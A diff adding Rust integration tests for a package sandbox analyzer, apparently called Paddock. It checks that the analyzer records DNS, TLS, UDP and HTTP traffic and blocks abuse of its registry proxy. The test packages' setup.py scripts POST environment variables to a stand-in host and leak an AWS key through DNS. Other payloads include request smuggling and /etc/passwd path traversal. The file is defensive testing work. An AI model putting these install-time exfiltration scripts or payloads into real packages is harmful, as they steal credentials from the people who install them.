@@ -1,0 +1,360 @@
+//! The simulated internet, end to end with the real runsc and the real
+//! image: a package's DNS lookups, HTTP, TLS and UDP land on Paddock's
+//! internet host and are recorded; a bait in the traffic is proof of
+//! exfiltration; hard-coded addresses fail fast and no packet reaches the
+//! host's own interfaces; the registry proxy refuses what is not a registry
+//! request; and nothing is left behind.
+#![allow(clippy::disallowed_methods)]
+
+mod common;
+
+use std::io::Read;
+use std::net::Ipv4Addr;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use paddock_dynamic::{DynamicAnalyzer, PhaseName};
+use paddock_proto::v1::{
+    AnalysisStatus, DynamicResult, Ecosystem, PackageRef, PhaseResult, Severity, SocketOp,
+};
+use paddock_testkit::packages::pypi_sdist;
+
+async fn run(a: &DynamicAnalyzer, dir: &std::path::Path, name: &str, setup: &str) -> DynamicResult {
+    let built = pypi_sdist(name, "1.0.0", setup, &[]);
+    let artifact = dir.join(&built.filename);
+    std::fs::write(&artifact, &built.bytes).unwrap();
+    let package = PackageRef {
+        ecosystem: Ecosystem::Pypi as i32,
+        name: name.into(),
+        version: "1.0.0".into(),
+    };
+    a.analyze(&package, &artifact).await
+}
+
+async fn install_only(dir: &std::path::Path, worker: &str) -> DynamicAnalyzer {
+    let mut config = common::config(dir, &common::worker(worker));
+    config.phases = vec![PhaseName::Install];
+    config.install_timeout = Duration::from_secs(120);
+    common::analyzer(config).await
+}
+
+fn install(result: &DynamicResult) -> &PhaseResult {
+    &result.phases[0]
+}
+
+fn stdout(p: &PhaseResult) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&p.stdout_tail),
+        String::from_utf8_lossy(&p.stderr_tail)
+    )
+}
+
+/// Every IPv4 packet on the host's own interfaces (the test's network
+/// namespace), captured while `f` runs.
+struct HostCapture {
+    stop: Arc<AtomicBool>,
+    seen: Arc<Mutex<Vec<(Ipv4Addr, Ipv4Addr)>>>,
+    thread: Option<std::thread::JoinHandle<()>>,
+}
+
+impl HostCapture {
+    fn start() -> Self {
+        let socket = socket2::Socket::new(
+            socket2::Domain::PACKET,
+            socket2::Type::DGRAM,
+            Some(socket2::Protocol::from(i32::from(0x0800u16.to_be()))),
+        )
+        .expect("a packet socket (the tests run as root)");
+        socket
+            .set_read_timeout(Some(Duration::from_millis(100)))
+            .unwrap();
+        let stop = Arc::new(AtomicBool::new(false));
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let (s, v) = (stop.clone(), seen.clone());
+        let thread = std::thread::spawn(move || {
+            let mut socket = &socket;
+            let mut buf = vec![0u8; 65536];
+            while !s.load(Ordering::Relaxed) {
+                if let Ok(n) = socket.read(&mut buf) {
+                    if n >= 20 && buf[0] >> 4 == 4 {
+                        let src = Ipv4Addr::new(buf[12], buf[13], buf[14], buf[15]);
+                        let dst = Ipv4Addr::new(buf[16], buf[17], buf[18], buf[19]);
+                        v.lock().unwrap().push((src, dst));
+                    }
+                }
+            }
+        });
+        Self {
+            stop,
+            seen,
+            thread: Some(thread),
+        }
+    }
+
+    fn finish(mut self) -> Vec<(Ipv4Addr, Ipv4Addr)> {
+        self.stop.store(true, Ordering::Relaxed);
+        self.thread.take().unwrap().join().unwrap();
+        std::mem::take(&mut *self.seen.lock().unwrap())
+    }
+}
+
+#[tokio::test]
+async fn a_package_that_posts_the_environment_is_caught_with_its_dns_socket_request_and_bait() {
+    let dir = tempfile::tempdir().unwrap();
+    let a = install_only(dir.path(), "exfil").await;
+    let setup = r#"import json, os, socket, urllib.request
+host = "telemetry-" + "collector.example"
+addr = socket.gethostbyname(host)
+print("resolved", host, addr)
+body = json.dumps(dict(os.environ)).encode()
+req = urllib.request.Request("http://%s/v1/upload?src=setup" % host, data=body, method="POST",
+                             headers={"Content-Type": "application/json"})
+try:
+    print("status", urllib.request.urlopen(req, timeout=10).status)
+except Exception as e:
+    print("post failed", e)
+# The same secret again, base64-encoded inside a DNS name.
+import base64
+key = base64.b32encode(os.environ["AWS_ACCESS_KEY_ID"].encode()).decode().lower().rstrip("=")
+try:
+    socket.gethostbyname(key[:40] + ".t.example")
+except OSError as e:
+    print("dns", e)
+from setuptools import setup
+setup(name="exfil", version="1.0.0")
+"#;
+    let result = run(&a, dir.path(), "exfil", setup).await;
+    let phase = install(&result);
+    let out = stdout(phase);
+    assert_eq!(
+        phase.status,
+        AnalysisStatus::Completed as i32,
+        "{out}\n{result:#?}"
+    );
+
+    let q = phase
+        .dns
+        .iter()
+        .find(|q| q.hostname == "telemetry-collector.example")
+        .unwrap_or_else(|| panic!("{:#?}", phase.dns));
+    assert!(q.answered && q.types.contains(&"A".to_owned()), "{q:?}");
+    let addr = &q.answers[0];
+
+    let socket = phase
+        .sockets
+        .iter()
+        .find(|s| s.op == SocketOp::Connect as i32 && &s.address == addr && s.port == 80)
+        .unwrap_or_else(|| panic!("{:#?}", phase.sockets));
+    assert_eq!(socket.hostnames, vec!["telemetry-collector.example"]);
+
+    let post = phase
+        .http_requests
+        .iter()
+        .find(|r| r.method == "POST")
+        .unwrap_or_else(|| panic!("{:#?}", phase.http_requests));
+    assert_eq!(post.path, "/v1/upload?src=setup");
+    assert_eq!(post.host, "telemetry-collector.example");
+    assert_eq!(post.hostname, "telemetry-collector.example");
+    assert_eq!(post.via, "catch-all");
+    assert_eq!(post.response_status, 200);
+    assert!(post.body_size > 100);
+    assert_eq!(post.body_sha256.len(), 64);
+
+    let finding = result
+        .findings
+        .iter()
+        .find(|f| f.rule_id == "exfiltration.bait-in-traffic")
+        .unwrap_or_else(|| panic!("{:#?}", result.findings));
+    assert_eq!(finding.severity, Severity::Critical as i32);
+    let named: Vec<&str> = finding.evidence.iter().map(|e| e.file.as_str()).collect();
+    assert!(named.contains(&"env:AWS_SECRET_ACCESS_KEY"), "{named:?}");
+    assert!(
+        finding
+            .evidence
+            .iter()
+            .any(|e| e.file == "env:AWS_ACCESS_KEY_ID" && e.snippet.contains("DNS")),
+        "the key in a DNS name: {:#?}",
+        finding.evidence
+    );
+}
+
+#[tokio::test]
+async fn tls_sni_udp_and_hard_coded_addresses() {
+    let dir = tempfile::tempdir().unwrap();
+    let a = install_only(dir.path(), "tls").await;
+    let setup = r#"import socket, ssl, time
+try:
+    raw = socket.create_connection(("updates.example", 443), timeout=10)
+    ctx = ssl.create_default_context()
+    ctx.set_alpn_protocols(["h2", "http/1.1"])
+    ctx.wrap_socket(raw, server_hostname="updates.example")
+except Exception as e:
+    print("tls", type(e).__name__)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto(b"beacon-payload", (socket.gethostbyname("beacon.example"), 5353))
+t = time.monotonic()
+try:
+    socket.create_connection(("203.0.113.7", 80), timeout=60)
+except OSError as e:
+    print("direct", e.errno, round(time.monotonic() - t, 3))
+from setuptools import setup
+setup(name="tls", version="1.0.0")
+"#;
+    let capture = HostCapture::start();
+    let result = run(&a, dir.path(), "tls", setup).await;
+    let packets = capture.finish();
+    let phase = install(&result);
+    let out = stdout(phase);
+    assert_eq!(phase.status, AnalysisStatus::Completed as i32, "{out}");
+
+    let hello = phase
+        .tls
+        .iter()
+        .find(|t| t.sni == "updates.example")
+        .unwrap_or_else(|| panic!("{:#?}\n{out}", phase.tls));
+    assert_eq!(hello.alpn, vec!["h2", "http/1.1"]);
+    assert_eq!(hello.port, 443);
+    assert_eq!(hello.hostname, "updates.example");
+    assert!(phase
+        .connections
+        .iter()
+        .any(|c| c.protocol == "tls" && c.hostname == "updates.example"));
+
+    let d = phase
+        .datagrams
+        .iter()
+        .find(|d| d.port == 5353)
+        .unwrap_or_else(|| panic!("{:#?}", phase.datagrams));
+    assert_eq!(d.head, b"beacon-payload");
+    assert_eq!(d.hostname, "beacon.example");
+
+    // Recorded, refused at once (no route), and never on the wire.
+    let direct = phase
+        .sockets
+        .iter()
+        .find(|s| s.address == "203.0.113.7" && s.op == SocketOp::Connect as i32)
+        .unwrap_or_else(|| panic!("{:#?}", phase.sockets));
+    assert_eq!(direct.error, "EHOSTUNREACH");
+    // pip runs setup.py twice (metadata, then the wheel) and hides its
+    // output; with a 60 s connect timeout the phase would take minutes if
+    // the attempt hung.
+    let took = phase.duration.unwrap().seconds;
+    assert!(took < 50, "the install took {took} s");
+    let outside = |a: &Ipv4Addr| {
+        a.octets() == [203, 0, 113, 7]
+            || (a.octets()[0] == 10 && matches!(a.octets()[1], 231 | 232))
+    };
+    let leaked: Vec<_> = packets
+        .iter()
+        .filter(|(s, d)| outside(s) || outside(d))
+        .collect();
+    assert!(leaked.is_empty(), "packets on the host: {leaked:?}");
+}
+
+#[tokio::test]
+async fn the_registry_proxy_refuses_what_is_not_a_registry_request() {
+    let dir = tempfile::tempdir().unwrap();
+    let a = install_only(dir.path(), "abuse").await;
+    let setup = r#"import socket
+PROXY = ("10.231.0.1", 3141)
+def send(raw):
+    s = socket.create_connection(PROXY, timeout=10)
+    s.sendall(raw)
+    try:
+        print(s.recv(200).split(b"\r\n")[0].decode())
+    except OSError as e:
+        print("recv", e)
+    s.close()
+send(b"GET http://exfil.example/steal HTTP/1.1\r\nHost: exfil.example\r\n\r\n")
+send(b"CONNECT exfil.example:443 HTTP/1.1\r\nHost: exfil.example:443\r\n\r\n")
+send(b"GET /npm/" + b"a" * 5000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
+send(b"POST /npm/left-pad HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n")
+send(b"GET /pypi/files/00000000000000000000000000000000/x.whl HTTP/1.1\r\nHost: x\r\n\r\n")
+send(b"GET /npm/../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n")
+from setuptools import setup
+setup(name="abuse", version="1.0.0")
+"#;
+    let result = run(&a, dir.path(), "abuse", setup).await;
+    let phase = install(&result);
+    let out = stdout(phase);
+    assert_eq!(phase.status, AnalysisStatus::Completed as i32, "{out}");
+    let refused: Vec<(&str, u32, &str)> = phase
+        .http_requests
+        .iter()
+        .filter(|r| r.via == "registry-proxy")
+        .map(|r| (r.path.as_str(), r.response_status, r.refused.as_str()))
+        .collect();
+    // pip runs setup.py twice: every attempt is made (and refused) twice.
+    assert_eq!(refused.len(), 12, "{refused:#?}\n{out}");
+    assert!(
+        refused
+            .iter()
+            .all(|(_, status, why)| *status >= 400 && !why.is_empty()),
+        "{refused:#?}"
+    );
+    let why = |needle: &str| refused.iter().any(|(_, _, w)| w.contains(needle));
+    assert!(why("not a registry request"), "{refused:#?}");
+    assert!(why("request target of"), "{refused:#?}");
+    assert!(why("smuggl") || why("Transfer-Encoding"), "{refused:#?}");
+    assert!(why("not a download the proxy handed out"), "{refused:#?}");
+    assert!(why("outside the registry"), "{refused:#?}");
+    let statuses: Vec<u32> = refused.iter().map(|(_, s, _)| *s).collect();
+    for status in [400, 403, 405, 414] {
+        assert!(statuses.contains(&status), "{statuses:?}");
+    }
+}
+
+#[tokio::test]
+async fn nothing_is_left_behind_after_an_analysis_or_a_cancelled_one() {
+    let dir = tempfile::tempdir().unwrap();
+    let worker = common::worker("leftovers");
+    let mut config = common::config(dir.path(), &worker);
+    config.phases = vec![PhaseName::Install];
+    let a = common::analyzer(config).await;
+    let ours = || {
+        let out = std::process::Command::new("ip")
+            .args(["netns", "list"])
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout)
+            .lines()
+            .filter(|l| l.contains(&worker))
+            .map(str::to_owned)
+            .collect::<Vec<_>>()
+    };
+    let setup = r#"import socket
+socket.gethostbyname("a.example")
+from setuptools import setup
+setup(name="quick", version="1.0.0")
+"#;
+    let result = run(&a, dir.path(), "quick", setup).await;
+    assert_eq!(install(&result).status, AnalysisStatus::Completed as i32);
+    assert!(ours().is_empty(), "{:?}", ours());
+
+    // Cancelled while the package sleeps: the namespaces (and with them
+    // every veth) go with the dropped analysis.
+    let slow = r#"import socket, time
+socket.gethostbyname("b.example")
+time.sleep(60)
+"#;
+    let analysis = run(&a, dir.path(), "slow", slow);
+    let cancelled = tokio::time::timeout(Duration::from_secs(15), analysis).await;
+    assert!(cancelled.is_err());
+    assert!(ours().is_empty(), "{:?}", ours());
+    let threads = std::fs::read_dir("/proc/self/task")
+        .unwrap()
+        .filter_map(|t| std::fs::read_to_string(t.unwrap().path().join("comm")).ok())
+        .filter(|c| c.starts_with("paddock-"))
+        .count();
+    // The capture thread notices its stop flag within a fraction of a
+    // second.
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let after = std::fs::read_dir("/proc/self/task")
+        .unwrap()
+        .filter_map(|t| std::fs::read_to_string(t.unwrap().path().join("comm")).ok())
+        .filter(|c| c.starts_with("paddock-"))
+        .count();
+    assert_eq!(after, 0, "threads before the wait: {threads}");
+}
